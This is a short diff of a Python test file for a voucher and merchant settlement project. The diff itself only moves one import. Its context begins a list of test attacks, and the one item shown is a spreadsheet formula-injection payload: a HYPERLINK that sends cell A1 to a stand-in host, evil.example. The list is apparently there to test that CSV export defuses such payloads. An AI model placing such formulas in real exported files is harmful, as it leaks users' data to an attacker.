@@ -16,7 +16,7 @@ from quan.domain.merchants import check_name as merchant_name
 from quan.domain.merchants import parse_bank_account
 from quan.domain.names import check_name
 from quan.domain.settlement import to_csv
-from quan.domain.voucher_types import parse_voucher_type
+from quan.domain.voucher_type_json import parse_voucher_type
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
